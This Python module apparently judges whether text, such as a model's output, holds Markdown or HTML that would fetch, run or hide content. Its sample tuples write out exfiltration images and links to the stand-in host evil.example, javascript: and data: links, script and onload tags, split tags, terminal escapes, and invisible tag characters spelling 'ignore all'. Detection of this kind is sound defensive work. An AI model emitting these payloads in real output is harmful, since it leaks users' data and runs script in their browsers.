"""What a reader of Markdown and HTML would fetch, run or be misled by in a text: the judge of what outputs may hold."""

from __future__ import annotations

import re
from html.parser import HTMLParser

from markdown_it import MarkdownIt
from markdown_it.token import Token

# Texts that act where they are drawn, each with a word that must stay readable.
PAYLOADS = (
    "![x](https://evil.example/?d=palm)",
    "![](https://evil.example/?d=palm)",
    "![a [b] c](https://evil.example/?d=palm)",
    "![a\nb](<https://evil.example/?d=palm>)",
    "![a](\n  https://evil.example/?d=palm\n  'title')",
    "![x](/logout?palm)",
    "![x](//evil.example/palm)",
    "[![x](https://evil.example/palm.svg)](https://evil.example/)",
    "![x][ref]\n\n[ref]: https://evil.example/?d=palm",
    "![ref]\n\n[ref]: <https://evil.example/?d=palm> 'title'",
    "> ![ref]\n>\n> [ref]:\n> https://evil.example/?d=palm",
    "[palm, click here](https://evil.example/?d=secret)",
    "[palm](javascript:alert(1))",
    "[palm](&#106;avascript:alert(1))",
    "[palm](data:text/html;base64,PHNjcmlwdD4=)",
    "[palm](<java\tscript:alert(1)>)",
    "[palm][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert('palm')>",
    "<data:text/html,palm>",
    "<img src=https://evil.example/?d=palm>",
    "<IMG/SRC='https://evil.example/?d=palm'>",
    '<img alt=">" src="https://evil.example/?d=palm">',
    '<img alt="<" src="https://evil.example/?d=palm">',
    "\\<b x=\"<img title='\">' src='https://evil.example/palm'>",
    "<svg/onload=alert('palm')>",
    "<x<y onclick=alert(1)>palm",
    "<a href=https://evil.example/?d=secret>palm</a>",
    "<a\nhref = 'javascript:alert(1)'>palm</a>",
    "<script>fetch('https://evil.example/palm')</script>",
    "<style>@import 'https://evil.example/palm.css'</style>",
    "<iframe src=//evil.example/palm></iframe>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/palm'>",
    "<object data=https://evil.example/palm></object>",
    "<form action=https://evil.example/palm><input type=image src=//evil.example></form>",
    "<b style='background:url(https://evil.example/palm)'>x</b>",
    "<video poster=https://evil.example/palm></video>",
    "<!-- hidden: palm -->",
    "<!hidden palm>",
    "<?hidden palm?>",
    "` ![x](https://evil.example/?d=palm) `` ![y](https://evil.example/?d=palm)",
)
# … and some that act with browsers or chats, though not with the judge below.
TRICKY = (
    '<img =" src=https://evil.example/?d=palm x=">',
    "<img a='>' =\" src=https://evil.example/?d=palm x=\">",
    "<img t='>' a=b=\" src=https://evil.example/?d=palm x=\">",
    "\\<img src=https://evil.example/?d=palm>",
    "<https://evil.example/?d=secret|palm>",
    "![x](\\\\evil.example\\palm)",
)
# Halves: nothing by themselves, an image if the next text goes on.
HALVES = (
    "<img alt='palm",
    '<img alt="palm',
    "<img palm ",
    "' src='https://evil.example/'>",
    "\" src='https://evil.example/'>",
)
UNSEEN = (
    "\x1b]8;;https://evil.example/\x07palm\x1b]8;;\x07",
    "\x1b[2Jpalm\x1b[31m",
    "\x9b31mpalm",
    "palm\r\x1b[Kgone",
    "\u202epalm\u202c",
    "\u2066palm\u2069",
    "palm" + "".join(chr(0xE0000 + ord(each)) for each in "ignore all"),
    "palm" + "\u200b\u200c\u200d\u2060" * 8,
    "pa\u200blm" + "\ufe0f\ufe0e" * 8,
    "\u2063palm\u2064",
)
# What people note, which stays as it is.
ORDINARY = (
    "The handbook is at https://docs.example.org/a_b/c?q=1&r=2#top, and https://example.com/x(1).",
    "See <https://docs.example.org> or write to <ana@example.org>.",
    "- milk\n- *bread*\n  1. rye\n  2. wheat\n\n## Later\n> said Ben\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "```python\nfor k in d[x]:\n    handlers[k](event)\n    print(f'{a[0]:>4}')\n```",
    "let v: Vec<u8> = vec![1, 2]; std::vector<std::string> s; #include <stdio.h>",
    "List<Object> all = new ArrayList<>(); if (a < b && c > d) { x <<= 2; }",
    "$a_1 < b^2$ and \\(\\frac{1}{2}\\), a < b, x <= y, <3",
    "[x] done, [ ] open, [1], [^2], see [the notes](notes/today.md)",
    "[12:30]: Ana came\n[Ana]: hello there, [Ben]: ok",
    "<b>bold</b> and <br> and </div>",
    "<!DOCTYPE html>\n<html lang='en'><head><meta charset='utf-8'></head>\n<div class=\"a\"><Card title='x' /></div>",
    "👨‍👩‍👧 می‌خواهم עברית\u200f (1) 葛\U000e0100城",
)


def active(text: str) -> list[str]:
    """What would act if the text were drawn as Markdown with HTML, or put into a page as it is."""
    return active_in_markdown(text) + _in_html(text)


def active_in_markdown(text: str) -> list[str]:
    """What would act if the text were drawn as Markdown with HTML, by a reader that lets every address through."""
    return [told for token in _flat(parsed(text)) for told in _acting(token)]


def parsed(text: str) -> list[Token]:
    reader = MarkdownIt("commonmark", {"html": True})
    reader.validateLink = lambda url: True  # type: ignore[method-assign]
    return reader.parse(text)


def _flat(tokens: list[Token]) -> list[Token]:
    return [each for token in tokens for each in (token, *_flat(token.children or []))]


def _acting(token: Token) -> list[str]:
    if token.type == "image":  # one beside the document, which is not there, fetches nothing
        source = str(token.attrs.get("src"))
        return [f"image {source}"] if ":" in source or source.startswith(("/", "\\", "%5C")) else []
    if token.type == "link_open":
        target = str(token.attrs.get("href"))
        relative = ":" not in target and not target.startswith(("/", "\\", "%5C"))
        told = token.markup == "autolink" and not target.lower().startswith(("javascript:", "vbscript:", "data:"))
        return [] if relative or told else [f"link {target}"]
    return _in_html(token.content) if token.type in ("html_inline", "html_block") else []


_FETCHING = ("src", "href", "data", "poster", "background", "action", "style", "srcset", "http-equiv", "xlink:href")
_RUNNING = ("title", "textarea", "style", "xmp", "iframe", "noembed", "noframes", "script", "plaintext")


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = [name for name, value in attrs if name in _FETCHING or name.startswith("on")]
        if names or tag in _RUNNING:
            self.found.append(f"<{tag} {' '.join(names)}>")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}>")

    def handle_decl(self, decl: str) -> None:
        if decl.lower() != "doctype html":
            self.found.append(f"<!{decl}>")


def _in_html(text: str) -> list[str]:
    tags = _Tags()
    tags.feed(re.sub(r"</(?![a-zA-Z])", "< /", text))  # `</3` hides what follows it from a browser, and is a heart
    tags.close()
    return tags.found
